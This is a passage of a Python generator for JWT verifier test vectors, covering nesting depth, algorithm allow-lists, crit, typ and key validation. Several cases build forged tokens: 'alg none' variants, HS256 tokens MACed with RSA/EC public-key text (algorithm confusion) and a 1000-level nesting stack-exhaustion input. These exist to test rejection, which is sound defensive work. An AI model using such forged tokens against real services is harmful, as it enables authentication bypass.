       resign(h0, b64u(b'{"sub":"u","Sub":"v"}')), claims={"sub": "u", "Sub": "v"})

    # --- depth --------------------------------------------------------------------------------------------
    def arrays(n):  # n nested arrays
        v = []
        for _ in range(n - 1):
            v = [v]
        return v

    def objects(n):  # n nested objects
        v = {}
        for _ in range(n - 1):
            v = {"a": v}
        return v

    def mixed(n):
        v = []
        for i in range(n - 1):
            v = {"a": v} if i % 2 else [v]
        return v

    c32 = {"sub": "u", "deep": arrays(31)}
    ok(g, "depth-32-arrays-ok", "nesting depth exactly 32 (top-level object is depth 1) is accepted",
       resign(h0, b64u(cjson(c32))), claims=c32)
    c32o = {"sub": "u", "deep": objects(31)}
    ok(g, "depth-32-objects-ok", "32 levels of objects are accepted", resign(h0, b64u(cjson(c32o))), claims=c32o)
    err(g, "depth-33-arrays", "an array at depth 33 exceeds the nesting cap", "malformed",
        resign(h0, b64u(cjson({"sub": "u", "deep": arrays(32)}))))
    err(g, "depth-33-objects", "an object at depth 33 exceeds the nesting cap", "malformed",
        resign(h0, b64u(cjson({"sub": "u", "deep": objects(32)}))))
    err(g, "depth-33-mixed", "alternating arrays and objects reaching depth 33", "malformed",
        resign(h0, b64u(cjson({"sub": "u", "deep": mixed(32)}))))
    err(g, "depth-1000", "very deep nesting (a stack-exhaustion attempt) is rejected", "malformed",
        resign(h0, b64u(b'{"sub":"u","deep":' + b"[" * 1000 + b"]" * 1000 + b"}")))
    err(g, "depth-33-in-header", "the depth cap also applies to the header", "malformed",
        resign(b64u(cjson({"alg": "HS256", "x": arrays(32)})), p0))
    hd = {"alg": "HS256", "x": arrays(31)}
    ok(g, "depth-32-in-header-ok", "depth 32 in the header is accepted", build(hd, base_claims()),
       header=hd)
    cs = {"sub": "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{"}
    ok(g, "brackets-inside-string-ok", "brackets inside a string are not nesting", resign(h0, b64u(cjson(cs))),
       claims=cs)


def g_algorithms():
    g = "algorithms"
    c = base_claims()
    for alg in IMPLEMENTED:
        # PyJWT cannot encode RFC 9864's "Ed25519" name: the same EdDSA signature under that header.
        tok = build({"alg": alg, "typ": "JWT"}, c) if alg == "Ed25519" else pyjwt(c, alg)
        ok(g, f"{alg.lower()}-ok", f"a valid {alg} token verifies with the matching key (RFC 7518 §3.1)"
           if alg != "Ed25519" else "a valid Ed25519 token (RFC 9864's name for EdDSA over Ed25519) verifies "
           "with the matching key", tok)
    ok(g, "multiple-allowed-ok", "the allow-list may hold several algorithms", pyjwt(c, "RS256"),
       options=opts(["HS256", "RS256"]))
    err(g, "alg-missing", "a header without alg is malformed (RFC 7515 §4.1.1: alg is required)", "malformed",
        build({"typ": "JWT"}, c, alg="HS256"))
    for name, value in [("null", None), ("number", 256), ("array", ["HS256"]), ("object", {"name": "HS256"}),
                        ("boolean", True)]:
        err(g, f"alg-{name}", f"alg must be a string; {json.dumps(value)} is not allowed",
            "algorithm_not_allowed", build({"alg": value, "typ": "JWT"}, c, alg="HS256"),
            unsure="alg null: treated as present-but-not-a-string (algorithm_not_allowed), not as missing"
            if value is None else None)
    err(g, "alg-empty-string", "the empty string is not in the allow-list", "algorithm_not_allowed",
        build({"alg": "", "typ": "JWT"}, c, alg="HS256"))
    h = {"alg": "none", "typ": "JWT"}
    for variant, name in [("none", "alg-none"), ("None", "alg-none-capitalised"), ("NONE", "alg-none-uppercase"),
                          ("nOnE", "alg-none-mixed-case")]:
        err(g, name, f"an unsecured token with alg {variant!r} (RFC 7519 §6) is never accepted",
            "algorithm_not_allowed", build(dict(h, alg=variant), c, sig=b""))
    err(g, "alg-none-with-hs256-signature", "alg none carrying a valid-looking HS256 MAC",
        "algorithm_not_allowed", build(h, c, alg="HS256"))
    err(g, "alg-none-allowed-list-rs256", "alg none against an RS256 verifier", "algorithm_not_allowed",
        build(h, c, sig=b""), key=k_pem("rsa2048"), options=opts("RS256"))
    err(g, "alg-lowercase-hs256", "alg names are case-sensitive (RFC 7515 §4.1.1): 'hs256'",
        "algorithm_not_allowed", build({"alg": "hs256", "typ": "JWT"}, c, alg="HS256"))
    err(g, "alg-trailing-space", "'HS256 ' is not 'HS256'", "algorithm_not_allowed",
        build({"alg": "HS256 ", "typ": "JWT"}, c, alg="HS256"))
    err(g, "rs256-not-in-hs256-list", "an RS256 token against an HS256-only verifier", "algorithm_not_allowed",
        pyjwt(c, "RS256"), key=k_hmac(SECRET["s32"]), options=opts("HS256"))
    err(g, "hs256-not-in-rs256-list", "an HS256 token against an RS256-only verifier", "algorithm_not_allowed",
        pyjwt(c, "HS256"), key=k_pem("rsa2048"), options=opts("RS256"))
    err(g, "hs384-not-in-hs256-list", "same family but a different hash is still not allowed",
        "algorithm_not_allowed", pyjwt(c, "HS384", SECRET["s64"]), key=k_hmac(SECRET["s64"]),
        options=opts("HS256"))
    err(g, "es256k-not-allowed-before-unsupported", "a non-allowed and unimplemented alg is "
        "algorithm_not_allowed (allow-list first)", "algorithm_not_allowed",
        build({"alg": "ES256K", "typ": "JWT"}, c, alg="ES256K", key="secp256k1"), key=k_hmac(SECRET["s32"]),
        options=opts("HS256"))
    # allowed but not implemented
    unsupported = [
        ("es256k", "ES256K", lambda hdr: build(hdr, c, alg="ES256K", key="secp256k1")),
        ("ed448", "Ed448", lambda hdr: build(hdr, c, sig=PRIV["ed448"].sign(
            (b64u(cjson(hdr)) + "." + b64u(cjson(c))).encode()))),
        ("hs1", "HS1", lambda hdr: build(hdr, c, sig=hmac_mod.new(SECRET["s32"].encode(),
                                                                  (b64u(cjson(hdr)) + "." + b64u(cjson(c))).encode(),
                                                                  hashlib.sha1).digest())),
        ("rsa-oaep", "RSA-OAEP", lambda hdr: build(hdr, c, alg="RS256")),
    ]
    for name, alg, make in unsupported:
        err(g, f"unsupported-{name}", f"{alg} is in the allow-list but not implemented", "unsupported_algorithm",
            make({"alg": alg, "typ": "JWT"}), key=k_hmac(SECRET["s32"]), options=opts([alg]))
    # confusion (RFC 8725 §2.1)
    rsa_pem = PEM[("rsa2048", "spki")]
    conf = build({"alg": "HS256", "typ": "JWT"}, c, alg="HS256", key=rsa_pem)
    err(g, "confusion-hs256-with-rsa-pem-both-allowed", "RFC 8725 §3.1: an HS256 token MACed with the RSA "
        "public key's PEM text, verifier configured with that RSA key and algorithms [RS256, HS256]: the key "
        "family does not fit HS256", "invalid_key", conf, key=k_pem("rsa2048"), options=opts(["RS256", "HS256"]))
    err(g, "confusion-hs256-with-rsa-pem-rs256-only", "the same forged token against algorithms [RS256]",
        "algorithm_not_allowed", conf, key=k_pem("rsa2048"), options=opts("RS256"))
    ec_pem = PEM[("p256", "spki")]
    err(g, "confusion-hs256-with-ec-pem-both-allowed", "an HS256 token MACed with the EC public key's PEM "
        "text against that EC key with [ES256, HS256]", "invalid_key",
        build({"alg": "HS256", "typ": "JWT"}, c, alg="HS256", key=ec_pem), key=k_pem("p256"),
        options=opts(["ES256", "HS256"]))
    err(g, "confusion-hs256-with-rsa-jwk", "an HS256 token MACed with the RSA JWK's JSON text against that "
        "JWK with [RS256, HS256]", "invalid_key",
        build({"alg": "HS256", "typ": "JWT"}, c, alg="HS256", key=json.dumps(JWK_PUB["rsa2048"])),
        key=k_jwk("rsa2048"), options=opts(["RS256", "HS256"]))


def g_crit():
    g = "crit"
    c = base_claims()

    def t(hdr):
        return build(dict({"alg": "HS256", "typ": "JWT"}, **hdr), c)

    cases = [
        ("empty-array", {"crit": []}, "an empty crit list is forbidden (RFC 7515 §4.1.11)"),
        ("string-not-array", {"crit": "exp"}, "crit must be an array"),
        ("number", {"crit": 1}, "crit as a number"),
        ("null", {"crit": None}, "crit null"),
        ("non-string-entry", {"crit": [1]}, "crit entries must be strings"),
        ("registered-name-alg", {"crit": ["alg"]}, "crit must not list registered names such as alg"),
        ("name-absent-from-header", {"crit": ["exp"]}, "crit lists a parameter the header lacks"),
        ("unknown-extension", {"crit": ["http://example.com/ext"], "http://example.com/ext": True},
         "an extension we do not understand must make the token invalid"),
        ("b64-false", {"crit": ["b64"], "b64": False}, "RFC 7797 unencoded payload is not supported"),
        ("b64-true", {"crit": ["b64"], "b64": True}, "crit [b64] with b64 true is still rejected"),
        ("duplicate-entries", {"crit": ["exp", "exp"], "exp": 1}, "duplicate crit entries"),
    ]
    for name, hdr, why in cases:
        err(g, name, f"crit in any form is rejected: {why}", "malformed", t(hdr))
    err(g, "b64-true-without-crit", "a b64 header parameter is rejected even with the default value",
        "malformed", t({"b64": True}))
    err(g, "b64-false-without-crit", "b64 false without crit", "malformed", t({"b64": False}))
    err(g, "b64-string", "b64 as a string", "malformed", t({"b64": "false"}))
    err(g, "order-alg-not-allowed-before-crit", "alg none with crit: the allow-list decides first",
        "algorithm_not_allowed", build({"alg": "none", "crit": []}, c, sig=b""))
    err(g, "order-unsupported-before-crit", "an allowed but unimplemented alg with crit: "
        "unsupported_algorithm comes before crit", "unsupported_algorithm",
        build({"alg": "ES256K", "crit": ["x"], "x": 1}, c, alg="ES256K", key="secp256k1"), options=opts(["ES256K"]))


def g_header():
    g = "header"
    c = base_claims()
    for name, hdr in [
        ("kid-number", {"kid": 1}), ("kid-null", {"kid": None}), ("kid-object", {"kid": {"id": "k1"}}),
        ("typ-number", {"typ": 1}), ("typ-null", {"typ": None}), ("typ-array", {"typ": ["JWT"]}),
        ("cty-number", {"cty": 7}), ("cty-object", {"cty": {}}),
    ]:
        param = name.split("-")[0]
        err(g, name, f"{param} must be a string when present (RFC 7515 §4.1)", "malformed",
            build(dict({"alg": "HS256"}, **hdr), c),
            unsure="null-valued kid/typ treated as present-but-not-a-string (malformed)" if "null" in name else None)
    for name, hdr, why in [
        ("kid-string-ok", {"alg": "HS256", "kid": "key-1", "typ": "JWT"}, "a string kid"),
        ("typ-any-string-without-option-ok", {"alg": "HS256", "typ": "dpop+jwt"},
         "without options.typ any string typ is fine"),
        ("no-typ-ok", {"alg": "HS256"}, "typ is optional"),
        ("cty-string-ok", {"alg": "HS256", "cty": "example", "typ": "JWT"}, "a string cty"),
        ("unknown-params-ok", {"alg": "HS256", "typ": "JWT", "x-tenant": "acme", "x-meta": {"a": [1, 2]}},
         "unknown header parameters (not in crit) are ignored and returned"),
        ("unicode-kid-ok", {"alg": "HS256", "kid": "clé-東京", "typ": "JWT"}, "a non-ASCII kid"),
    ]:
        ok(g, name, f"a valid header is returned exactly: {why}", build(hdr, c), header=hdr)
    hdr = {"typ": "JWT", "alg": "HS256"}
    ok(g, "member-order-preserved-ok", "the header is returned as sent, whatever the member order",
       build(hdr, c), header=hdr)


def g_typ():
    g = "typ"
    c = base_claims()

    def t(typ):
        return pyjwt(c, headers={"typ": typ})

    for name, typ, want in [
        ("jwt-exact-ok", "JWT", "JWT"), ("jwt-lowercase-ok", "jwt", "JWT"),
        ("application-jwt-ok", "application/jwt", "JWT"), ("application-jwt-mixed-case-ok", "Application/JWT", "JWT"),
        ("at-jwt-exact-ok", "at+jwt", "at+jwt"), ("at-jwt-application-uppercase-ok", "application/at+JWT", "at+jwt"),
        ("option-with-application-prefix-ok", "at+jwt", "application/at+jwt"),
        ("option-lowercase-header-uppercase-ok", "AT+JWT", "at+jwt"),
    ]:
        ok(g, name, f"typ {typ!r} matches options.typ {want!r}: compared case-insensitively after stripping an "
           "optional 'application/' (RFC 7515 §4.1.9, RFC 8725 §3.11)", t(typ), options=opts(typ=want),
           unsure="'application/' prefix stripped case-insensitively" if typ.startswith("Application") else None)
    for name, typ, want in [
        ("at-jwt-vs-jwt", "at+jwt", "JWT"), ("jwt-vs-at-jwt", "JWT", "at+jwt"),
        ("trailing-space", "JWT ", "JWT"), ("double-application-prefix", "application/application/jwt", "JWT"),
        ("other-media-prefix", "text/jwt", "JWT"), ("empty-string", "", "JWT"),
    ]:
        tok = t(typ) if typ else build({"alg": "HS256", "typ": ""}, c)
        err(g, name, f"typ {typ!r} does not match options.typ {want!r} (RFC 8725 §3.11 explicit typing)",
            "wrong_token_type", tok, options=opts(typ=want))
    err(g, "missing-typ-with-option", "options.typ set and the header has no typ", "wrong_token_type",
        pyjwt(c, headers={"typ": None}), options=opts(typ="JWT"))
    err(g, "typ-number-with-option-is-malformed", "a non-string typ is malformed before the typ comparison",
        "malformed", build({"alg": "HS256", "typ": 1}, c), options=opts(typ="JWT"))
    bad = t("at+jwt")
    err(g, "order-typ-before-signature", "wrong typ and a bad signature: typ is checked first",
        "wrong_token_type", bad[:-4] + "AAAA", options=opts(typ="JWT"))
    err(g, "order-crit-before-typ", "crit and a wrong typ: crit (malformed) is checked first", "malformed",
        build({"alg": "HS256", "crit": ["x"], "x": 1, "typ": "at+jwt"}, c), options=opts(typ="JWT"))
    err(g, "order-typ-before-key-selection", "wrong typ and a kid that is not in the key set: typ first",
        "wrong_token_type", pyjwt(c, "RS256", headers={"kid": "nope", "typ": "at+jwt"}),
        key=k_jwks(jwk_of("rsa2048", kid="k1")), options=opts("RS256", typ="JWT"))


def g_key():
    g = "key"
    c = base_claims()
    t256 = pyjwt(c)

    # --- hmac ---------------------------------------------------------------------------------------------
    err(g, "hmac-empty-secret", "an empty HMAC secret is not a key", "invalid_key",
        build({"alg": "HS256", "typ": "JWT"}, c, sig=hmac_mod.new(b"", (b64u(cjson({"alg": "HS256", "typ": "JWT"}))
                                                                         + "." + b64u(cjson(c))).encode(),
                                                                  hashlib.sha256).digest()),
        key=k_hmac(""))
    for secret, alg, code in [("s16", "HS256", "invalid_key"), ("s31", "HS256", "invalid_key"),
                              ("s32", "HS256", None), ("s32", "HS384", "invalid_key"), ("s48", "HS384", None),
                              ("s48", "HS512", "invalid_key"), ("s64", "HS512", None), ("s64", "HS256", None)]:
        n = len(SECRET[secret])
        tok = pyjwt(c, alg, SECRET[secret])
        name = f"hmac-{n}-byte-secret-{alg.lower()}" + ("-too-short" if code else "-ok")
        if code:
            err(g, name, f"RFC 7518 §3.2: a {alg} key must be at least the hash size; {n} bytes is too short",
                code, tok, key=k_hmac(SECRET[secret]), options=opts(alg))
        else:
            ok(g, name, f"a {n}-byte secret is long enough for {alg}", tok, key=k_hmac(SECRET[secret]),
               options=opts(alg))
    raw = bytes(range(200, 232))
    ok(g, "hmac-base64url-binary-secret-ok", "a 32-byte binary secret given as base64url",
       pyjwt(c, "HS256", raw), key={"hmac_base64url": b64u(raw)})
    err(g, "hmac-base64url-31-bytes-too-short", "a 31-byte binary secret for HS256", "invalid_key",
        pyjwt(c, "HS256", raw[:31]), key={"hmac_base64url": b64u(raw[:31])})

    rsa_pem = PEM[("rsa2048", "spki")]
    jwk_text = json.dumps(JWK_PUB["rsa2048"])
    confusions = [
        ("hmac-secret-is-rsa-public-pem", rsa_pem, "the RSA public key PEM"),
        ("hmac-secret-is-rsa-public-pem-crlf", rsa_pem.replace("\n", "\r\n"), "the RSA public PEM with CRLF"),
        ("hmac-secret-is-rsa-public-pem-leading-space", " " + rsa_pem, "the RSA public PEM after a space"),
        ("hmac-secret-is-rsa-public-pem-leading-newline", "\n\n" + rsa_pem, "the RSA public PEM after newlines"),
        ("hmac-secret-is-rsa-public-pem-leading-tab", "\t" + rsa_pem, "the RSA public PEM after a tab"),
        ("hmac-secret-is-rsa-public-pem-bom", "\ufeff" + rsa_pem, "the RSA public PEM after a UTF-8 BOM"),
        ("hmac-secret-is-rsa-pkcs1-public-pem", PEM[("rsa2048", "pub-pkcs1")], "an RSA PUBLIC KEY PEM"),
        ("hmac-secret-is-ec-public-pem", PEM[("p256", "spki")], "the EC public key PEM"),
        ("hmac-secret-is-ec-public-pem-crlf-bom", "\ufeff" + PEM[("p256", "spki")].replace("\n", "\r\n"),
         "the EC public PEM with BOM and CRLF"),
        ("hmac-secret-is-certificate-pem", PEM[("rsa2048", "cert")], "a certificate PEM"),
        ("hmac-secret-is-private-key-pem", PEM[("ed25519", "pkcs8")], "a private key PEM"),
        ("hmac-secret-is-ssh-rsa", SSH["rsa2048"], "an OpenSSH ssh-rsa public key line"),
        ("hmac-secret-is-ssh-ed25519-leading-space", "  " + SSH["ed25519"], "an ssh-ed25519 line after spaces"),
        ("hmac-secret-is-rsa-jwk-json", jwk_text, "the RSA public JWK as JSON text"),
        ("hmac-secret-is-jwk-json-leading-whitespace", "\n  " + jwk_text, "JWK JSON after whitespace"),
        ("hmac-secret-is-jwk-json-bom", "\ufeff" + json.dumps(JWK_PUB["p256"]), "EC JWK JSON after a BOM"),
        ("hmac-secret-is-json-object", '{"secret": "a-long-enough-secret-value-for-hs256"}',
         "any JSON object text"),
    ]
    for name, secret, why in confusions:
        err(g, name, f"algorithm-confusion guard (RFC 8725 §3.1): {why} is never an HMAC secret",
            "invalid_key", build({"alg": "HS256", "typ": "JWT"}, c, alg="HS256", key=secret), key=k_hmac(secret))
    for name, secret, why, unsure in [
        ("hmac-secret-begin-marker-not-at-start-ok", "my-app-secret:-----BEGIN-is-just-text-here",
         "'-----BEGIN' not at the start is ordinary text", None),
        ("hmac-secret-brace-but-not-json-ok", "{not json, just a long secret value}",
         "text starting with '{' that is not a JSON object",
         "secret starting with '{' but not parseable JSON: treated as a normal secret"),
        ("hmac-secret-json-array-ok", '["a-long-enough-secret-value", "second part"]',
         "a JSON array is not a JSON object", "JSON array text as HMAC secret: accepted (only objects are refused)"),
    ]:
        ok(g, name, f"the confusion guard is narrow: {why}", pyjwt(c, "HS256", secret), key=k_hmac(secret),
           unsure=unsure)

    # --- pem ----------------------------------------------------------------------------------------------
    for name, kname, form, alg in [
        ("pem-rsa-spki-ok", "rsa2048", "spki", "RS256"),
        ("pem-rsa-pkcs1-public-ok", "rsa2048", "pub-pkcs1", "RS256"),
        ("pem-rsa-certificate-ok", "rsa2048", "cert", "RS256"),
        ("pem-rsa-pkcs8-private-ok", "rsa2048", "pkcs8", "RS256"),
        ("pem-rsa-pkcs1-private-ok", "rsa2048", "pkcs1", "RS256"),
        ("pem-rsa-certificate-ps256-ok", "rsa2048", "cert", "PS256"),
        ("pem-rsa4096-spki-rs512-ok", "rsa4096", "spki", "RS512"),
        ("pem-ec-p256-spki-ok", "p256", "spki", "ES256"),
        ("pem-ec-p256-pkcs8-private-ok", "p256", "pkcs8", "ES256"),
        ("pem-ec-p256-sec1-private-ok", "p256", "sec1", "ES256"),
        ("pem-ec-p384-spki-ok", "p384", "spki", "ES384"),
        ("pem-ec-p384-pkcs8-private-ok", "p384", "pkcs8", "ES384"),
        ("pem-ec-p384-sec1-private-ok", "p384", "sec1", "ES384"),
        ("pem-ed25519-spki-ok", "ed25519", "spki", "EdDSA"),
        ("pem-ed25519-pkcs8-private-ok", "ed25519", "pkcs8", "EdDSA"),
    ]:
        ok(g, name, f"{alg} verifies with a {form} PEM ({kname}); a private key verifies with its public half",
           pyjwt(c, alg, kname), key=k_pem(kname, form), options=opts(alg))
    ok(g, "pem-crlf-line-endings-ok", "a PEM with CRLF line endings is accepted", pyjwt(c, "RS256"),
       key={"pem": PEM[("rsa2048", "spki")].replace("\n", "\r\n")}, options=opts("RS256"),
       unsure="PEM with CRLF line endings accepted")
    for name, kname, form, alg, why in [
        ("pem-rsa1024-spki", "rsa1024", "spki", "RS256", "an RSA modulus under 2048 bits (RFC 7518 §3.3)"),
        ("pem-rsa1024-private", "rsa1024", "pkcs1", "RS256", "a 1024-bit RSA private key"),
        ("pem-ec-p521-spki", "p521", "spki", "ES256", "a P-521 key for an ES256 token (it serves ES512 only)"),
        ("pem-ec-p521-sec1", "p521", "sec1", "ES256", "a P-521 SEC1 private key for an ES256 token"),
        ("pem-ec-secp256k1-spki", "secp256k1", "spki", "ES256", "a secp256k1 key"),
        ("pem-x25519-spki", "x25519", "spki", "EdDSA", "an X25519 key-agreement key"),
        ("pem-x25519-private", "x25519", "pkcs8", "EdDSA", "an X25519 private key"),
        ("pem-ed448-spki", "ed448", "spki", "EdDSA", "an Ed448 key (only Ed25519 is supported)"),
        ("pem-dsa-spki", "dsa2048", "spki", "RS256", "a DSA key"),
        ("pem-encrypted-private", "rsa2048", "pkcs8-encrypted", "RS256", "an encrypted private key"),
    ]:
        tok = pyjwt(c, alg, "rsa2048") if alg == "RS256" else pyjwt(c, alg)
        err(g, name, f"unsupported or weak PEM key: {why}", "invalid_key", tok, key=k_pem(kname, form),
            options=opts(alg))
    tok_rs = pyjwt(c, "RS256")
    for name, text, why, unsure in [
        ("pem-two-public-blocks", PEM[("rsa2048", "spki")] + PEM[("rsa2048-b", "spki")], "two PEM blocks", None),
        ("pem-same-block-twice", PEM[("rsa2048", "spki")] * 2, "the same block twice is still two blocks", None),
        ("pem-certificate-and-key", PEM[("rsa2048", "cert")] + PEM[("rsa2048", "pkcs8")],
         "a certificate followed by its private key", None),
        ("pem-garbage", "this is not a key", "plain text", None),
        ("pem-empty", "", "an empty string", None),
        ("pem-corrupt-base64-body", PEM[("rsa2048", "spki")].replace("MII", "M!I", 1), "a corrupt body", None),
        ("pem-truncated-body", "\n".join(PEM[("rsa2048", "spki")].splitlines()[:4]) + "\n-----END PUBLIC KEY-----\n",
         "a truncated DER body", None),
        ("pem-missing-end-line", "\n".join(PEM[("rsa2048", "spki")].splitlines()[:-1]) + "\n",
         "no END line", None),
        ("pem-label-mismatch", PEM[("rsa2048", "spki")].replace("PUBLIC KEY", "RSA PUBLIC KEY"),
         "SPKI DER under an 'RSA PUBLIC KEY' label",
         "PEM label/DER mismatch (SPKI body under RSA PUBLIC KEY label): chose invalid_key"),
        ("pem-unknown-label", PEM[("rsa2048", "spki")].replace("PUBLIC KEY", "SECRET THING"), "an unknown label",
         None),
        ("pem-ssh-public-key", SSH["rsa2048"], "an OpenSSH public key line", None),
    ]:
        err(g, name, f"the PEM must hold exactly one supported key block: {why}", "invalid_key", tok_rs,
            key={"pem": text}, options=opts("RS256"), unsure=unsure)

    # --- family / curve fitness ------------------------------------------------------------------------------
    for name, alg, key, why in [
        ("family-rsa-key-es256-token", "ES256", k_pem("rsa2048"), "an RSA key for ES256"),
        ("family-rsa-key-eddsa-token", "EdDSA", k_pem("rsa2048"), "an RSA key for EdDSA"),
        ("family-p256-key-es384-token", "ES384", k_pem("p256"), "a P-256 key for ES384"),
        ("family-p384-key-es256-token", "ES256", k_pem("p384"), "a P-384 key for ES256"),
        ("family-p256-private-key-eddsa-token", "EdDSA", k_pem("p256", "pkcs8"), "a P-256 key for EdDSA"),
        ("family-ed25519-key-rs256-token", "RS256", k_pem("ed25519"), "an Ed25519 key for RS256"),
        ("family-ed25519-key-es256-token", "ES256", k_jwk("ed25519"), "an Ed25519 JWK for ES256"),
        ("family-hmac-key-rs256-token", "RS256", k_hmac(SECRET["s64"]), "an HMAC secret for RS256"),
        ("family-hmac-key-eddsa-token", "EdDSA", k_hmac(SECRET["s64"]), "an HMAC secret for EdDSA"),
        ("family-oct-jwk-ps256-token", "PS256", k_jwk(oct_jwk(SECRET["s64"])), "an oct JWK for PS256"),
        ("family-ec-jwk-hs256-token", "HS256", k_jwk("p256"), "an EC JWK for HS256"),
        ("family-certificate-es256-token", "ES256", k_pem("rsa2048", "cert"), "an RSA certificate for ES256"),
    ]:
        err(g, name, f"the key family must fit the token alg before any crypto: {why}", "invalid_key",
            pyjwt(c, alg), key=key, options=opts(alg))

    # --- jwk ----------------------------------------------------------------------------------------------
    for name, alg, key, why in [
        ("jwk-rsa-public-ok", "RS256", k_jwk("rsa2048"), "an RSA public JWK"),
        ("jwk-rsa-private-ok", "RS384", k_jwk("rsa2048", True), "an RSA private JWK verifies with its public half"),
        ("jwk-rsa4096-public-ps512-ok", "PS512", k_jwk("rsa4096"), "a 4096-bit RSA JWK"),
        ("jwk-ec-p256-public-ok", "ES256", k_jwk("p256"), "a P-256 public JWK"),
        ("jwk-ec-p256-private-ok", "ES256", k_jwk("p256", True), "a P-256 private JWK"),
        ("jwk-ec-p384-public-ok", "ES384", k_jwk("p384"), "a P-384 public JWK"),
        ("jwk-okp-ed25519-public-ok", "EdDSA", k_jwk("ed25519"), "an Ed25519 OKP JWK (RFC 8037)"),
        ("jwk-okp-ed25519-private-ok", "EdDSA", k_jwk("ed25519", True), "an Ed25519 private OKP JWK"),
        ("jwk-oct-ok", "HS256", k_jwk(oct_jwk(SECRET["s32"])), "an oct JWK becomes an HMAC key"),
        ("jwk-use-sig-ok", "RS256", k_jwk("rsa2048", use="sig"), "use 'sig'"),
        ("jwk-key-ops-verify-ok", "RS256", k_jwk("rsa2048", key_ops=["verify"]), "key_ops ['verify']"),
        ("jwk-key-ops-sign-verify-ok", "ES256", k_jwk("p256", True, key_ops=["sign", "verify"]),
         "key_ops ['sign','verify']"),
        ("jwk-alg-matches-ok", "RS256", k_jwk("rsa2048", alg="RS256"), "JWK alg equal to the token alg"),
        ("jwk-with-kid-and-extras-ok", "EdDSA", k_jwk("ed25519", kid="ed-1", ext=True), "extra members"),
    ]:
        signing = "rsa4096" if "rsa4096" in name else None
        ok(g, name, f"a valid JWK (RFC 7517/7518 §6): {why}", pyjwt(c, alg, signing), key=key, options=opts(alg))

    rsa_pub = JWK_PUB["rsa2048"]
    p256 = JWK_PUB["p256"]
    ed = JWK_PUB["ed25519"]

    def without(d, *names):
        return {k: v for k, v in d.items() if k not in names}

    x_bytes = b64u_dec(p256["x"])
    y_int = int.from_bytes(b64u_dec(p256["y"]), "big")
    bad_y = int_b64((y_int + 1) % (2 ** 256), 32)
    bad_jwks = [
        ("jwk-rsa-missing-n", "RS256", without(rsa_pub, "n"), "an RSA JWK without n"),
        ("jwk-rsa-missing-e", "RS256", without(rsa_pub, "e"), "an RSA JWK without e"),
        ("jwk-rsa-e-number", "RS256", dict(rsa_pub, e=65537), "e as a JSON number"),
        ("jwk-rsa-n-padded", "RS256", dict(rsa_pub, n=rsa_pub["n"] + ("=" * (-len(rsa_pub["n"]) % 4) or "=")),
         "n with base64 padding"),
        ("jwk-rsa-n-std-alphabet", "RS256", dict(rsa_pub, n=rsa_pub["n"].replace("-", "+").replace("_", "/")
                                                 if ("-" in rsa_pub["n"] or "_" in rsa_pub["n"]) else
                                                 rsa_pub["n"][:-1] + "+"), "n in the standard base64 alphabet"),
        ("jwk-rsa-1024", "RS256", JWK_PUB["rsa1024"], "a 1024-bit RSA JWK"),
        ("jwk-ec-missing-y", "ES256", without(p256, "y"), "an EC JWK without y"),
        ("jwk-ec-missing-crv", "ES256", without(p256, "crv"), "an EC JWK without crv"),
        ("jwk-ec-x-31-bytes", "ES256", dict(p256, x=b64u(x_bytes[1:])), "x one byte short"),
        ("jwk-ec-point-not-on-curve", "ES256", dict(p256, y=bad_y), "(x, y) not on P-256"),
        ("jwk-ec-crv-p521", "ES256", JWK_PUB["p521"], "crv P-521 for an ES256 token (it serves ES512 only)"),
        ("jwk-ec-crv-secp256k1", "ES256", JWK_PUB["secp256k1"], "crv secp256k1"),
        ("jwk-ec-crv-lowercase", "ES256", dict(p256, crv="p-256"), "crv 'p-256' (case-sensitive)"),
        ("jwk-ec-d-wrong-length", "ES256", dict(JWK_PRIV["p256"], d=b64u(b64u_dec(JWK_PRIV["p256"]["d"])[:-1])),
         "a private d one byte short"),
        ("jwk-okp-x25519", "EdDSA", JWK_PUB["x25519"], "an X25519 OKP key"),
        ("jwk-okp-ed448", "EdDSA", JWK_PUB["ed448"], "an Ed448 OKP key"),
        ("jwk-okp-x-31-bytes", "EdDSA", dict(ed, x=b64u(b64u_dec(ed["x"])[:31])), "x one byte short"),
        ("jwk-okp-missing-crv", "EdDSA", without(ed, "crv"), "an OKP JWK without crv"),
        ("jwk-kty-unknown", "RS256", dict(rsa_pub, kty="RSA-PSS"), "kty 'RSA-PSS'"),
        ("jwk-kty-lowercase", "RS256", dict(rsa_pub, kty="rsa"), "kty 'rsa' (case-sensitive)"),
        ("jwk-kty-missing", "RS256", without(rsa_pub, "kty"), "no kty"),
        ("jwk-use-enc", "RS256", dict(rsa_pub, use="enc"), "use 'enc'"),
        ("jwk-key-ops-encrypt", "RS256", dict(rsa_pub, key_ops=["encrypt", "wrapKey"]),
         "key_ops without verify/sign"),
        ("jwk-alg-other-rsa-alg", "RS384", dict(rsa_pub, alg="RS256"), "JWK alg RS256, token RS384"),
        ("jwk-alg-ps-vs-rs", "RS256", dict(rsa_pub, alg="PS256"), "JWK alg PS256, token RS256"),
        ("jwk-oct-missing-k", "HS256", {"kty": "oct"}, "an oct JWK without k"),
        ("jwk-oct-empty-k", "HS256", {"kty": "oct", "k": ""}, "an empty k"),
        ("jwk-oct-16-byte-k", "HS256", oct_jwk(SECRET["s16"]), "a 16-byte k for HS256"),
        ("jwk-oct-k-padded", "HS256", dict(oct_jwk(SECRET["s32"]), k=b64u(SECRET["s32"].encode()) + "="),
         "k with base64 padding"),
        ("jwk-oct-k-is-pem-text", "HS256", oct_jwk(PEM[("rsa2048", "spki")]), "k decoding to PEM text"),
        ("jwk-oct-alg-hs256-token-hs512", "HS512", oct_jwk(SECRET["s64"], alg="HS256"),
         "an oct JWK restricted to HS256 used for HS512"),
    ]
    for name, alg, jwk_dict, why in bad_jwks:
        if jwk_dict is rsa_pub or jwk_dict is p256:
            raise AssertionError(name)
        if name == "jwk-oct-k-is-pem-text":
            tok = build({"alg": "HS256", "typ": "JWT"}, c, alg="HS256", key=PEM[("rsa2048", "spki")])
        elif name == "jwk-oct-16-byte-k":
            tok = pyjwt(c, "HS256", SECRET["s16"])
        elif alg == "HS512":
            tok = pyjwt(c, "HS512", SECRET["s64"])
        else:
            tok = pyjwt(c, alg)
        err(g, name, f"a JWK that is malformed, unsupported or unfit is invalid_key: {why}", "invalid_key", tok,
            key=k_jwk(jwk_dict), options=opts(alg),
            unsure={"jwk-oct-k-padded": "JWK k with '=' padding: strict base64url -> invalid_key",
